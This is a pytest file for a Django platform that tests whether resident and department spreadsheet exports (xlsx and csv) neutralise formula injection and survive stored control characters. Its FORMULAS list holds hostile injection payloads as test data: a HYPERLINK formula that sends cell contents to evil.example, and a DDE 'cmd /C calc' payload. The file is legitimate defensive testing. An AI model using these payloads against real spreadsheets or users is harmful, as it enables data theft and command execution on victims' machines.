"""Formula injection and stored control characters in exports (issue 7, item 4).

Every spreadsheet the platform hands out goes through core.spreadsheets: a value starting with
= + - @ (or a tab or carriage return) is written as text, never as a live formula, and a control
character that reached the database before input was checked is replaced instead of making the
export fail (openpyxl IllegalCharacterError → 500).

Exports covered: the registry's resident export (xlsx) and the department export in a source's
own layout (xlsx and csv). The demands module has no spreadsheet export yet; a future one (and
every ledger) uses the same writer, whose contract is tested here directly as well."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from gongzhi.core import spreadsheets
from gongzhi.core.purposes import Purpose
from gongzhi.registry.models import Person
from tests.factories import DepartmentFactory, PersonFactory

pytestmark = pytest.mark.django_db

JUNMEN = "350102004001"
PURPOSE = Purpose.EXPORT_FILING.value
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = "王\x07五\x1b"  # BEL and ESC: accepted by the API before input was checked


def _cells(content: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formulas(content: bytes) -> None:
    cells = _cells(content)
    live = [c.value for c in cells if c.data_type == "f"]
    assert live == [], live
    # and the text survives as typed (no quote glued in front of it)
    values = {c.value for c in cells}
    for text in FORMULAS:
        if text.lstrip("\t\r")[:1] in "=+-@" and not text.startswith(("\t", "\r")):
            assert text in values, (text, values)


@pytest.fixture
def hostile(junmen):
    """Residents whose name and address start like formulas."""
    people = []
    for i, text in enumerate(FORMULAS):
        person = PersonFactory(community=junmen, name=f"居民{i}")
        Person.objects.filter(pk=person.pk).update(name=text, address=text)  # stored as it came
        people.append(person)
    return people


@pytest.fixture
def stored_control_character(junmen):
    person = PersonFactory(community=junmen, name="控制")
    # Written straight to the table: what the API let through before the fix.
    Person.objects.filter(pk=person.pk).update(
        name=CONTROL, address="军门\x00路\x0b1号" if _nul_ok() else "军门\x0b路1号"
    )
    return person


def _nul_ok() -> bool:
    from django.db import connection

    return connection.vendor != "postgresql"  # PostgreSQL text cannot hold NUL at all


# --- registry -----------------------------------------------------------------------------------


def test_registry_export_writes_formula_like_text_as_text(client, make_user, hostile):
    client.force_login(make_user("community_worker", JUNMEN))
    response = client.post(reverse("registry:export"), {"purpose": PURPOSE})
    assert response.status_code == 200, response.content[:500]
    _no_formulas(response.content)


def test_registry_export_survives_a_stored_control_character(client, make_user, stored_control_character):
    client.force_login(make_user("community_worker", JUNMEN))
    response = client.post(reverse("registry:export"), {"purpose": PURPOSE})
    assert response.status_code == 200, response.content[:500]
    values = [c.value for c in _cells(response.content)]
    assert "王\ufffd五\ufffd" in values  # the name, with the invisible characters shown as �


# --- integration: the department export in the source's layout ------------------------------------


@pytest.fixture
def civil(make_user):
    from gongzhi.integration.services import source_create
    from gongzhi.integration.tests.conftest import CIVIL_CODES, CIVIL_COLUMNS

    officer = make_user("district_staff", "350102")
    department = DepartmentFactory(name="鼓楼区民政局", kind="civil_affairs", code="gl-civil")

    def source(file_format: str):
        return source_create(
            by=officer,
            department=department,
            name=f"低保名册{file_format}",
            file_format=file_format,
            columns=CIVIL_COLUMNS,
            code_maps=CIVIL_CODES,
        )

    return make_user("department_staff", department), source


def _department_export(client, user, source):
    client.force_login(user)
    return client.get(reverse("integration:department_export"), {"source": source.pk, "purpose": PURPOSE})


def test_department_xlsx_export_writes_formula_like_text_as_text(client, civil, hostile):
    user, source = civil
    response = _department_export(client, user, source("xlsx"))
    assert response.status_code == 200, response.content[:500]
    _no_formulas(response.content)


def test_department_csv_export_neutralises_formula_like_text(client, civil, hostile):
    user, source = civil
    response = _department_export(client, user, source("csv"))
    assert response.status_code == 200, response.content[:500]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'" + FORMULAS[0] in cells


@pytest.mark.parametrize("file_format", ["xlsx", "csv"])
def test_department_export_survives_a_stored_control_character(
    client, civil, stored_control_character, file_format
):
    user, source = civil
    response = _department_export(client, user, source(file_format))
    assert response.status_code == 200, response.content[:500]
    if file_format == "xlsx":
        assert "王\ufffd五\ufffd" in [c.value for c in _cells(response.content)]
    else:
        assert "王\ufffd五\ufffd" in response.content.decode("utf-8-sig")


# --- the shared writer (what demands and every ledger use) ------------------------------------------


def test_the_shared_writer_keeps_text_as_text_and_numbers_as_numbers():
    content = spreadsheets.xlsx_bytes(
        title="诉求", header=["标题", "件数"], rows=[[FORMULAS[0], 3], [CONTROL, -2], ["-5", 1.5]]
    )
    cells = _cells(content)
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    assert by_value[FORMULAS[0]].data_type == "s"
    assert by_value["-5"].data_type == "s"  # text that looks like a number stays text
    assert by_value[-2].data_type == "n" and by_value[3].data_type == "n"
    assert "王\ufffd五\ufffd" in by_value
    text = spreadsheets.csv_bytes(header=["标题"], rows=[["=1+1"], ["@x"], ["普通"]]).decode("utf-8-sig")
    assert text.splitlines() == ["标题", "'=1+1", "'@x", "普通"]
